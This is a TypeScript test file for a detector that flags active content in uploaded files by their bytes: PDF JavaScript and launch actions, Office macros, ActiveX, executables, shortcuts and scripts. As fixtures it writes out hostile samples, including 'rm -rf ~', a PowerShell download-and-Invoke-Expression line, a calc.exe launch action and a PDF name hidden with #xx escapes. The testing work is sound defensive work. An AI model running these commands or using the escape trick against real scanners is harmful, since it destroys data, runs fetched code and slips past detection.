/**
 * Which content is active (core/xsozial/active-content.ts), decided by the bytes of real files: PDFs written by
 * pdf-lib (JavaScript in a compressed object stream and in plain objects, a launch action, an embedded file, a
 * name written with #xx escapes, a damaged object stream), ZIP files as Office, OpenDocument and Java write them
 * (with and without macros, ActiveX, a program inside), OLE compound directories, RTF, HTML/SVG, programs,
 * shortcuts and scripts — and the harmless ones (a clean PDF, the synthetic application's PDF, images, a letter)
 * that must give no finding. The function never sees a name: content alone decides.
 */
import { crc32, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { activeContentOf, MAX_CHECKED_BYTES } from '../../core/xsozial/active-content.js';
import { EXE, HTA, LNK, pdfBytes, SCRIPT, URL_FILE } from '../helpers/hostile-application.js';

/** A ZIP file as archivers write it (entries deflated, central directory, end record): only what a reader needs. */
function zip(entries: Record<string, string | Uint8Array>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of Object.entries(entries)) {
    const data = Buffer.from(content);
    const packed = deflateSync(data, { level: 6 }).subarray(2, -4); // raw deflate: without the zlib header and checksum
    const nameBytes = Buffer.from(name, 'utf8');
    const header = Buffer.alloc(30);
    header.writeUInt32LE(0x04034b50, 0);
    header.writeUInt16LE(20, 4);
    header.writeUInt16LE(8, 8);
    header.writeUInt32LE(crc32(data), 14);
    header.writeUInt32LE(packed.length, 18);
    header.writeUInt32LE(data.length, 22);
    header.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(crc32(data), 16);
    central.writeUInt32LE(packed.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(header, nameBytes, packed);
    centrals.push(central, nameBytes);
    offset += header.length + nameBytes.length + packed.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(entries).length, 8);
  end.writeUInt16LE(Object.keys(entries).length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const CONTENT_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';

/** An OLE compound file's header and one directory sector naming these streams (UTF-16LE, 64-byte entries). */
function ole(streams: readonly string[]): Buffer {
  const header = Buffer.alloc(512);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header);
  const entries = ['Root Entry', ...streams].map((name) => {
    const entry = Buffer.alloc(128);
    const encoded = Buffer.from(name, 'utf16le');
    encoded.copy(entry, 0);
    entry.writeUInt16LE(encoded.length + 2, 64);
    entry[66] = name === 'Root Entry' ? 5 : 2;
    return entry;
  });
  return Buffer.concat([header, ...entries]);
}

async function cleanPdf(): Promise<PDFDocument> {
  const doc = await PDFDocument.create();
  doc.addPage([595, 842]).drawText('Bescheinigung des Arbeitgebers', { x: 50, y: 780 });
  return doc;
}

describe('active content, decided by the bytes', () => {
  it('finds nothing in harmless documents', async () => {
    const clean = await cleanPdf();
    expect(activeContentOf(await clean.save())).toEqual([]);
    expect(activeContentOf(await clean.save({ useObjectStreams: false }))).toEqual([]);
    // the synthetic application's evidence PDF
    expect(activeContentOf(pdfBytes('clean'))).toEqual([]);
    expect(activeContentOf(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]))).toEqual([]);
    expect(activeContentOf(Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46]))).toEqual([]);
    expect(activeContentOf(Buffer.from('Sehr geehrte Damen und Herren,\r\nanbei die Unterlagen.\r\nMit freundlichen Grüßen\r\n'))).toEqual([]);
    expect(activeContentOf(Buffer.from('{\\rtf1\\ansi Sehr geehrte Damen und Herren}'))).toEqual([]);
    expect(activeContentOf(zip({ '[Content_Types].xml': CONTENT_TYPES, 'word/document.xml': '<w:document/>' }))).toEqual([]);
    expect(activeContentOf(zip({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<office:document-content/>' }))).toEqual([]);
    expect(activeContentOf(ole(['WordDocument', '1Table', '\u0005SummaryInformation']))).toEqual([]);
    expect(activeContentOf(Buffer.from('<?xml version="1.0"?><antrag><name>Muster</name></antrag>'))).toEqual([]);
  });

  it('PDF: JavaScript in a compressed object stream, in plain objects, and behind #xx escapes', async () => {
    const doc = await cleanPdf();
    doc.addJavaScript('start', 'app.alert("Hallo");');
    const packed = Buffer.from(await doc.save());
    // pdf-lib packs the dictionaries into object streams: the key is not in the file as plain text
    expect(packed.includes('/JavaScript')).toBe(false);
    expect(activeContentOf(packed)).toEqual(['pdf-javascript']);
    const plain = Buffer.from(await doc.save({ useObjectStreams: false }));
    expect(plain.includes('/JavaScript')).toBe(true);
    expect(activeContentOf(plain)).toEqual(['pdf-javascript']);
    const escaped = Buffer.from(plain.toString('latin1').replaceAll('/JavaScript', '/J#61vaScript').replaceAll('/JS ', '/J#53 '), 'latin1');
    expect(escaped.includes('/JavaScript')).toBe(false);
    expect(activeContentOf(escaped)).toEqual(['pdf-javascript']);
  });

  it('PDF: a launch action, an embedded file, a form that submits', async () => {
    const launch = await cleanPdf();
    launch.catalog.set(PDFName.of('OpenAction'), launch.context.register(launch.context.obj({ Type: 'Action', S: 'Launch', F: PDFString.of('C:\\Windows\\System32\\calc.exe') })));
    expect(activeContentOf(await launch.save())).toEqual(['pdf-launch']);
    const attached = await cleanPdf();
    await attached.attach(Buffer.from('MZ'), 'rechnung.exe', { mimeType: 'application/octet-stream' });
    expect(activeContentOf(await attached.save())).toEqual(['pdf-embedded-file']);
    const form = await cleanPdf();
    form.catalog.set(PDFName.of('OpenAction'), form.context.register(form.context.obj({ Type: 'Action', S: 'SubmitForm', F: PDFString.of('https://example.invalid/') })));
    expect(activeContentOf(await form.save({ useObjectStreams: false }))).toEqual(['pdf-form-action']);
  });

  it('PDF: an object stream that cannot be unpacked (encrypted, damaged) is not called harmless', async () => {
    const doc = await cleanPdf();
    const bytes = Buffer.from(await doc.save());
    const text = bytes.toString('latin1');
    const at = text.indexOf('stream', text.indexOf('/Type /ObjStm'));
    expect(at).toBeGreaterThan(0);
    const damaged = Buffer.from(bytes);
    // the stream's first bytes replaced: no longer Flate
    damaged.fill(0x41, at + 'stream\n'.length, at + 'stream\n'.length + 8);
    expect(activeContentOf(damaged)).toEqual(['not-checked']);
  });

  it('Office and OpenDocument: macros, Excel 4.0 macro sheets, ActiveX', () => {
    expect(activeContentOf(zip({ '[Content_Types].xml': CONTENT_TYPES, 'word/document.xml': '<w:document/>', 'word/vbaProject.bin': ole(['VBA', '_VBA_PROJECT']) }))).toEqual([
      'office-macros',
    ]);
    expect(activeContentOf(zip({ '[Content_Types].xml': CONTENT_TYPES, 'xl/workbook.xml': '<workbook/>', 'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>' }))).toEqual([
      'office-macros',
    ]);
    expect(activeContentOf(zip({ '[Content_Types].xml': CONTENT_TYPES, 'word/document.xml': '<w:document/>', 'word/activeX/activeX1.xml': '<ax:ocx/>' }))).toEqual([
      'office-activex',
    ]);
    expect(activeContentOf(zip({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<c/>', 'Basic/Standard/Module1.xml': '<script:module/>' }))).toEqual([
      'office-macros',
    ]);
    // old binary formats: the VBA storage in the compound file's directory
    expect(activeContentOf(ole(['WordDocument', 'Macros', 'VBA', '_VBA_PROJECT']))).toEqual(['office-macros']);
    expect(activeContentOf(ole(['Workbook', '_VBA_PROJECT_CUR', 'VBA']))).toEqual(['office-macros']);
    // a compound file that is no Office document (an installer package, for one)
    expect(activeContentOf(ole(['\u4840\u3f3f\u4577', '!_StringPool']))).toEqual(['unknown-compound']);
  });

  it('archives, Java archives and a program inside a ZIP', () => {
    expect(activeContentOf(zip({ 'Belege/kontoauszug.txt': 'Kontostand' }))).toEqual(['archive']);
    expect(activeContentOf(zip({ 'Rechnung.pdf.exe': EXE }))).toEqual(['executable']);
    expect(activeContentOf(zip({ 'META-INF/MANIFEST.MF': 'Main-Class: a.B\n', 'a/B.class': '\xca\xfe\xba\xbe' }))).toEqual(['executable']);
    expect(activeContentOf(Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0]))).toEqual(['archive']);
    expect(activeContentOf(Buffer.from('Rar!\x1a\x07\x00', 'latin1'))).toEqual(['archive']);
  });

  it('RTF with an embedded object, HTML, HTA, SVG and XHTML', () => {
    expect(activeContentOf(Buffer.from('{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105000002000000}}}'))).toEqual(['rtf-object']);
    expect(activeContentOf(HTA)).toEqual(['markup']);
    expect(activeContentOf(Buffer.from('<!DOCTYPE html><p>Bescheid</p>'))).toEqual(['markup']);
    expect(activeContentOf(Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'))).toEqual(['markup']);
    expect(activeContentOf(Buffer.from('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body/></html>'))).toEqual(['markup']);
  });

  it('programs, shortcuts and scripts', () => {
    expect(activeContentOf(EXE)).toEqual(['executable']);
    expect(activeContentOf(Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56)]))).toEqual(['executable']);
    expect(activeContentOf(Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), Buffer.alloc(24)]))).toEqual(['executable']);
    expect(activeContentOf(LNK)).toEqual(['shortcut']);
    expect(activeContentOf(URL_FILE)).toEqual(['shortcut']);
    expect(activeContentOf(SCRIPT)).toEqual(['script']);
    expect(activeContentOf(Buffer.from('#!/bin/sh\nrm -rf ~\n'))).toEqual(['script']);
    expect(activeContentOf(Buffer.from('@echo off\r\nstart calc.exe\r\n'))).toEqual(['script']);
    expect(activeContentOf(Buffer.from('$client = New-Object Net.WebClient\r\nInvoke-Expression $client.DownloadString("http://x")\r\n'))).toEqual(['script']);
    expect(activeContentOf(Buffer.from('Set sh = CreateObject("WScript.Shell")\r\nsh.Run "calc"\r\n'))).toEqual(['script']);
    expect(activeContentOf(Buffer.from('<?xml version="1.0"?><job id="x"><script language="JScript">WScript.Echo(1)</script></job>'))).toEqual(['script']);
  });

  it('a document larger than what is checked is reported not-checked, with what was seen', () => {
    expect(activeContentOf(pdfBytes('big'), MAX_CHECKED_BYTES + 1)).toEqual(['not-checked']);
    expect(activeContentOf(EXE, MAX_CHECKED_BYTES + 1)).toEqual(['executable', 'not-checked']);
  });
});
